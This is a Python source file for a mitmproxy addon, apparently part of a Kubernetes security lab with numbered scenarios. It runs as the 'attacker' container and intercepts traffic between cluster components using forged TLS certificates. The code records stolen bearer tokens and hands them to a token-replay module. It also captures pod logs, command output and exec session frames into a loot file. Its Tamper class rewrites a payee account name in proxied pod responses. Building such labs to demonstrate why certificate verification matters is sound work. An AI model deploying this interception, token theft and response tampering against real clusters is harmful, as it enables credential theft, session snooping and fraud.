"""The mitmproxy addon of the attacker container (``mitmdump -s lab/attacker/addon.py``): for every
intercepted connection it says in plain words what it learned, on stdout (``docker compose logs
attacker``) and in the loot file (lab/attacker/loot.py) that scenarios read.

mitmproxy does the interception (transparent mode: iptables REDIRECT, original destination from
SO_ORIGINAL_DST); this addon only looks. The decoding is in lab/attacker/decode.py (no mitmproxy
import there). Hooks used, in the order mitmproxy calls them per connection:

1. ``tls_established_client`` the handshake with the victim completed (our forged certificate);
   ``tls_failed_client``       the victim aborted it: it verifies (e.g. --kubelet-certificate-authority)
2. ``request``                 every request (loot only), bearer tokens, /run commands
3. ``responseheaders``         ``logs --follow``: stream the body through, reading each chunk
4. ``response``                log lines, /pods, /run output
5. ``websocket_message``       exec/attach channel frames (stdin/stdout/stderr in clear)
6. ``client_disconnected``     a victim that completed the handshake but hung up without a request
                               refused our certificate after the handshake (miniapi verifies the
                               kubelet's certificate right after it; Go aborts inside it, case 1)

Two more addons act instead of only looking: :class:`Tamper` (below) rewrites a phrase of the pod
pages the apiserver proxies (scenario 4), lab/attacker/giveup.py passes clients that verify the
apiserver through untouched (scenarios 5, 9), and lab/attacker/replay.py replays stolen
service-account tokens (scenario 5).
"""

from __future__ import annotations

import os
from collections.abc import Iterable
from pathlib import Path
from typing import Any

from mitmproxy import connection, http, tls

from lab.attacker import decode, loot
from lab.attacker.giveup import GiveUp
from lab.attacker.replay import Replay

LOOT = Path(os.environ.get("LAB_LOOT", "/loot/loot.jsonl"))
PODS = os.environ.get("LAB_CLUSTER_CIDR", "10.244.0.0/16")  # the apiserver proxy's pod connections go here
READY = Path("/run/lab/ready")  # lab/attacker/run.py adds the iptables rules once this exists


def say(text: str) -> None:
    print(f"[attacker] {text}", flush=True)


def _server(flow: http.HTTPFlow) -> str:
    host, port = flow.server_conn.address or ("?", 0)
    return f"{host}:{port}"


def _client(flow_or_data: Any) -> str:
    peer = flow_or_data.client_conn.peername if hasattr(flow_or_data, "client_conn") else \
        flow_or_data.context.client.peername
    return str(peer[0]) if peer else "?"


class Loot:
    def __init__(self, replay: Replay) -> None:
        self._asked: set[str] = set()  # client connections that sent at least one request
        self.replay = replay

    def running(self) -> None:
        loot.record(LOOT, "started", mode="intercept", pid=os.getpid())
        READY.parent.mkdir(parents=True, exist_ok=True)
        READY.touch()
        say("listening; every connection redirected to me is read in clear if its client does not verify")

    # -- 1. TLS ---------------------------------------------------------------------------------
    def tls_established_client(self, data: tls.TlsData) -> None:
        server = data.context.server.address
        where = f"{server[0]}:{server[1]}" if server else "?"
        say(f"TLS handshake done: {_client(data)} got my forged certificate for {where}; "
            "unless it checks it now, I read everything")
        loot.record(LOOT, "tls-handshake", client=_client(data), server=where)

    def tls_failed_client(self, data: tls.TlsData) -> None:
        server = data.context.server.address
        where = f"{server[0]}:{server[1]}" if server else "?"
        error = str(data.conn.error or "")
        say(f"TLS refused: {_client(data)} does not trust my certificate for {where}; I see nothing ({error})")
        loot.record(LOOT, "tls-refused", client=_client(data), server=where, error=error)

    # -- 2.-4. HTTP -------------------------------------------------------------------------------
    def request(self, flow: http.HTTPFlow) -> None:
        self._asked.add(flow.client_conn.id)
        loot.record(LOOT, "request", client=_client(flow), server=_server(flow), method=flow.request.method,
                    path=flow.request.path)
        token = decode.bearer_token(dict(flow.request.headers))
        if token:
            say(f"STOLEN bearer token from {_client(flow)} to {_server(flow)}: {decode.describe_token(token)}")
            loot.record(LOOT, "bearer-token", client=_client(flow), server=_server(flow), token=token,
                        fingerprint=decode.fingerprint(token), words=decode.describe_token(token))
            self.replay.bearer_token(token, _server(flow))
        run = decode.run_target(flow.request.path)
        if run and flow.request.method == "POST":
            say(f"command sent to {run[0]}: {run[1]!r}")

    def responseheaders(self, flow: http.HTTPFlow) -> None:
        target = decode.container_logs_target(flow.request.path)
        if target and "follow=true" in flow.request.path and flow.response is not None:
            flow.response.stream = _LogStream(target, _server(flow))

    def response(self, flow: http.HTTPFlow) -> None:
        if flow.response is None or flow.response.stream:
            return
        body = flow.response.content or b""
        path = flow.request.path
        target = decode.container_logs_target(path)
        if target:
            lines = decode.text_lines(body)
            self._lines(flow, "log-lines", f"logs of {target}", lines, status=flow.response.status_code)
        elif path.split("?")[0] == "/pods":
            self._lines(flow, "pods", "pods on the node", decode.pods_summary(body))
        elif run := decode.run_target(path):
            self._lines(flow, "run-output", f"output of {run[0]}", decode.text_lines(body))
        elif decode.in_network(_server(flow).rpartition(":")[0], PODS):
            self._lines(flow, "pod-response", f"the pod's answer to {flow.request.method} {path}",
                        decode.text_lines(body, limit=10), status=flow.response.status_code)

    def _lines(self, flow: http.HTTPFlow, kind: str, what: str, lines: Iterable[str], **extra: Any) -> None:
        lines = list(lines)
        say(f"STOLEN {what} from {_server(flow)} ({len(lines)} lines):")
        for line in lines:
            say(f"    | {line}")
        loot.record(LOOT, kind, client=_client(flow), server=_server(flow), what=what, lines=lines, **extra)

    # -- 5. WebSocket -------------------------------------------------------------------------------
    def websocket_message(self, flow: http.HTTPFlow) -> None:
        assert flow.websocket is not None
        message = flow.websocket.messages[-1]
        frame = decode.channel_frame(message.content)
        if frame is None:
            return
        direction = "to the pod" if message.from_client else "from the pod"
        say(f"exec {direction}: {frame.words()}")
        lines = decode.text_lines(frame.data) if frame.channel not in ("close", "resize") else [frame.words()]
        loot.record(LOOT, "exec-frame", client=_client(flow), server=_server(flow), direction=direction,
                    channel=frame.channel, lines=lines)


    # -- 6. hang-ups ------------------------------------------------------------------------------------
    def client_disconnected(self, client: connection.Client) -> None:
        if client.tls_established and client.id not in self._asked:
            who = str(client.peername[0]) if client.peername else "?"
            server = client.sockname
            say(f"TLS dropped: {who} hung up right after the handshake, without a request: it checked my "
                "certificate and refused it; I see nothing")
            loot.record(LOOT, "tls-dropped", client=who, server=f"{server[0]}:{server[1]}" if server else "?")
        self._asked.discard(client.id)


class _LogStream:
    """A streamed (``--follow``) log body: passed through unchanged, every chunk read on the way."""

    def __init__(self, target: decode.ContainerRef, server: str) -> None:
        self.what, self.server = f"logs of {target} (following)", server

    def __call__(self, chunk: bytes) -> bytes:
        if chunk:
            lines = decode.text_lines(chunk)
            for line in lines:
                say(f"STOLEN {self.what} from {self.server}: | {line}")
            loot.record(LOOT, "log-lines", server=self.server, what=self.what, lines=lines)
        return chunk


class Tamper:
    """Scenario 4: a pod page proxied by the apiserver (plain HTTP, or ``https:`` unverified) is
    changed on its way back: ``to account alice`` becomes ``to account mallory`` (decode.tamper).
    Runs after :class:`Loot`, which recorded the original."""

    def response(self, flow: http.HTTPFlow) -> None:
        if flow.response is None or flow.response.stream or not decode.in_network(_server(flow).rpartition(":")[0],
                                                                                   PODS):
            return
        changed = decode.tamper(flow.response.content or b"")
        if changed is None:
            return
        flow.response.content = changed  # mitmproxy fixes Content-Length
        words = f"{decode.TAMPER_FROM.decode()!r} -> {decode.TAMPER_TO.decode()!r}"
        say(f"ALTERED the answer of {_server(flow)} to {flow.request.method} {flow.request.path}: {words}")
        loot.record(LOOT, "altered", client=_client(flow), server=_server(flow), path=flow.request.path,
                    change=words)


_replay = Replay()
addons = [Loot(_replay), GiveUp(), Tamper()]
